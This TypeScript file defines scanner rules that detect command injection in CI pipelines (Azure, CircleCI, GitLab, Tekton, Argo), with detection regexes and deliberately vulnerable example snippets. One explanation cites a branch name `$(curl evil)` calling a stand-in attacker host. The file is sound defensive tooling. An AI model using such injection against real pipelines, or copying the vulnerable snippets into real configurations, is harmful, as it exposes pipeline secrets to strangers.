import { scalar, type MapValue, type Value } from '../../server/rule/queries.ts';
import type { ResourceContext } from '../../server/rule/rule.ts';
import { mapOfResource, objectRule } from '../_kubernetes.ts';
import { azureFile, azureSteps, circleFile, circleSteps, found, gitlabFile, gitlabJob, partOf, writtenAt } from '../_pipelines.ts';
import { sourceOf } from '../_source.ts';

/** Variables that hold what strangers write: messages, titles and names of branches. */
const written = [
  'CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|AUTHOR|REF_NAME|BRANCH|TAG|TAG_MESSAGE)',
  'CI_(?:MERGE_REQUEST|EXTERNAL_PULL_REQUEST)_(?:TITLE|DESCRIPTION|LABELS|MILESTONE|SOURCE_BRANCH_NAME)',
  'BITBUCKET_(?:BRANCH|TAG|BOOKMARK)',
  'CIRCLE_(?:BRANCH|TAG|PR_USERNAME|PR_REPONAME)',
  'BUILD_(?:SOURCEVERSIONMESSAGE|SOURCEBRANCH(?:NAME)?)',
].join('|');
/** A variable that a second shell, or the same one once more, reads as part of a command. */
const readAgain = new RegExp(`\\b(?:eval|(?:ba|z|da)?sh[ \\t]+-\\w*c)\\b[ \\t]+(?:"[^"\\n]*|[^'"\\n;&|]*)\\$\\{?(?:${written})\\b[^\\s"']*`, 'g');
/** What Azure and CircleCI paste into a script before it runs, and strangers write. */
const pasted: Readonly<Record<string, RegExp>> = {
  azure: /\$\((?:Build\.SourceVersionMessage|Build\.SourceBranch(?:Name)?|System\.PullRequest\.(?:SourceBranch|SourceRepositoryUri))\)/gi,
  circleci: /<<\s*pipeline\.git\.(?:branch|tag|branch\.is_default)\s*>>/g,
};

const object = (version: string, kind: string, ...lines: readonly string[]): string =>
  [`apiVersion: ${version}`, `kind: ${kind}`, 'metadata:', '  name: build', 'spec:', ...lines.map((line, at) => (at + 1 < lines.length ? `  ${line}` : line))].join('\n');
const tekton = (end: string): string => object('tekton.dev/v1', 'Task', 'steps:', '  - name: build', '    image: alpine@sha256:0', end);
const argo = (end: string): string => object('argoproj.io/v1alpha1', 'Workflow', 'templates:', '  - name: build', '    script:', '      image: alpine@sha256:0', end);

/** The declarations of parameters anywhere in a pipeline, by name. */
function parametersOf(context: ResourceContext): ReadonlyMap<string, MapValue | undefined> {
  const out = new Map<string, MapValue | undefined>();
  const look = (value: Value, depth: number): void => {
    if (depth > 6) return;
    if (value.kind === 'list') for (const item of value.items) look(item, depth + 1);
    if (value.kind !== 'map') return;
    for (const { key, value: own } of value.entries.values()) {
      if (key === 'parameters' && own.kind === 'map')
        for (const one of own.entries.values()) {
          if (one.value.kind === 'map') out.set(one.key, one.value);
        }
      else if (key === 'parameters' && own.kind === 'list')
        for (const one of own.items) {
          const name = one.kind === 'map' ? one.entries.get('name')?.value : undefined;
          if (one.kind === 'map' && name?.kind === 'string') out.set(name.value, one);
        }
      look(own, depth + 1);
    }
  };
  for (const root of context.unit.byType.get('ci_pipeline') ?? []) look(mapOfResource(root), 0);
  return out;
}

/** True for a parameter whose value may be any text. */
function isFree(one: MapValue | undefined): boolean {
  if (!one || one.entries.has('values')) return false;
  const type = one.entries.get('type')?.value;
  return type === undefined ? one.complete : scalar(type) === 'string';
}

export default [
  objectRule({
    id: 'input-validation/pipeline-injection',
    title: 'Text of strangers in the script of a pipeline',
    severity: 'medium',
    types: ['ci_script'],
    file: azureFile,
    what: 'Reports messages, titles and names of branches that Azure or CircleCI paste into a script, or that `eval` and `sh -c` read as part of a command.',
    why: 'A branch or message such as `$(curl evil)` then runs in the pipeline, with its secrets.',
    references: ['CWE-78', 'CWE-94', 'SI-10'],
    noFix: 'The value has to be read from the environment, in quotes.',
    check: (resource, tell, context) => {
      const own = writtenAt(resource, 'script', context);
      if (!own) return;
      for (const match of [...(pasted[own.system] ? found(own, pasted[own.system]!) : []), ...found(own, readAgain)])
        tell(partOf(own, match.index, match[0].length), `Text that strangers write becomes part of a command of ${resource.name}.`);
    },
    bad: azureSteps('- script: echo "$(Build.SourceVersionMessage)"', '                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^'),
    good: azureSteps('- script: echo "$BUILD_SOURCEVERSIONMESSAGE"'),
    more: [
      {
        file: circleFile,
        bad: circleSteps('- run: git checkout << pipeline.git.branch >>', '                    ^^^^^^^^^^^^^^^^^^^^^^^^^'),
        good: circleSteps('- run: git checkout "$CIRCLE_BRANCH"'),
      },
      { file: gitlabFile, bad: gitlabJob('script:', '  - eval "echo $CI_COMMIT_MESSAGE"', '    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^'), good: gitlabJob('script:', '  - echo "$CI_COMMIT_MESSAGE"') },
    ],
  }),
  objectRule({
    id: 'input-validation/pipeline-parameter-in-script',
    title: 'Parameter pasted into a script of a pipeline',
    severity: 'low',
    confidence: 'medium',
    types: ['ci_script'],
    file: azureFile,
    what: 'Reports parameters that may be any text and are pasted into a script by Azure Pipelines, CircleCI or the inputs of GitLab.',
    why: 'Whoever starts the pipeline decides what runs; as a variable the value would stay data.',
    references: ['CWE-78', 'CWE-94', 'SI-10'],
    noFix: 'The value has to be handed over in the environment, or limited to a list of values.',
    check: (resource, tell, context) => {
      const own = writtenAt(resource, 'script', context);
      if (!own) return;
      const pattern = own.system === 'azure' ? /\$\{\{\s*parameters\.([\w-]+)\s*\}\}/g : own.system === 'circleci' ? /<<\s*(?:pipeline\.)?parameters\.([\w-]+)\s*>>/g : undefined;
      const matches = pattern ? found(own, pattern) : [];
      const declared = matches.length > 0 ? parametersOf(context) : undefined;
      for (const match of matches)
        if (isFree(declared?.get(match[1]!))) tell(partOf(own, match.index, match[0].length), `Parameter "${match[1]}" becomes part of a command of ${resource.name}.`);
    },
    bad: `parameters:\n  - name: target\n    type: string\n${azureSteps('- script: make ${{ parameters.target }}', '               ^^^^^^^^^^^^^^^^^^^^^^^^')}`,
    good: `parameters:\n  - name: target\n    type: string\n    values: [a, b]\n${azureSteps('- script: make ${{ parameters.target }}')}`,
    more: [
      {
        file: circleFile,
        bad: `parameters:\n  tag:\n    type: string\n${circleSteps('- run: make << pipeline.parameters.tag >>', '            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')}`,
        good: `parameters:\n  tag:\n    type: integer\n${circleSteps('- run: make << pipeline.parameters.tag >>')}`,
      },
    ],
  }),
  objectRule({
    id: 'input-validation/kubernetes-pipeline-parameter',
    title: 'Parameter pasted into a script of Tekton or Argo',
    severity: 'low',
    confidence: 'medium',
    types: ['k8s_task', 'k8s_clustertask', 'k8s_pipeline', 'k8s_taskrun', 'k8s_pipelinerun', 'k8s_workflow', 'k8s_workflowtemplate', 'k8s_clusterworkflowtemplate', 'k8s_cronworkflow'],
    file: 'task.yaml',
    what: 'Reports `$(params.x)` in a `script` of Tekton, and `{{inputs.parameters.x}}` in a `source` of Argo Workflows.',
    why: 'The value is pasted into the script before it runs; as a variable in `env` it would stay data.',
    references: ['CWE-78', 'CWE-94', 'SI-10'],
    noFix: 'The value has to be handed over in `env` and read as a variable.',
    check: (resource, tell, context) => {
      const look = (value: Value, depth: number): void => {
        if (depth > 12) return;
        if (value.kind === 'list') for (const item of value.items) look(item, depth + 1);
        if (value.kind !== 'map') return;
        const words = ['command', 'args'].flatMap((key) => value.entries.get(key)?.value ?? []).flatMap((list) => (list.kind === 'list' ? list.items : []));
        const inShell = words.some((one) => /^(?:\/\S*\/)?(?:ba|da|a|z)?sh$/.test(String(scalar(one) ?? ''))) && words.some((one) => /^-\w*c$/.test(String(scalar(one) ?? '')));
        const scripts = ['script', 'source'].flatMap((key) => value.entries.get(key)?.value ?? []);
        for (const { value: inner } of value.entries.values()) look(inner, depth + 1);
        for (const run of [...scripts, ...(inShell ? words : [])]) {
          if (run.kind === 'string' || run.kind === 'unknown') {
            const { path, range } = run.origin;
            const text = sourceOf(context, { path, range });
            for (const match of text.matchAll(/\$\(params\.[\w-]+\)|\{\{=?\s*(?:inputs|workflow)\.parameters\.[\w-]+\s*\}\}/g)) {
              if (/(?:^|\n)[ \t]*#[^\n]*$/.test(text.slice(0, match.index))) continue;
              const origin = { path, range: { start: range.start + match.index, end: range.start + match.index + match[0].length } };
              tell({ kind: 'null', origin, at: origin }, `A parameter (${match[0]}) becomes part of a script of "${resource.name}".`);
            }
          }
        }
      };
      look(mapOfResource(resource), 0);
    },
    bad: tekton('      script: git checkout $(params.branch)\n                           ^^^^^^^^^^^^^^^^\n'),
    good: tekton('      env:\n        - name: BRANCH\n          value: $(params.branch)\n      script: git checkout "$BRANCH"\n'),
    more: [
      {
        file: 'workflow.yaml',
        bad: argo('        source: echo {{inputs.parameters.name}}\n                     ^^^^^^^^^^^^^^^^^^^^^^^^^^\n'),
        good: argo('        source: echo "$NAME"\n'),
      },
    ],
  }),
];
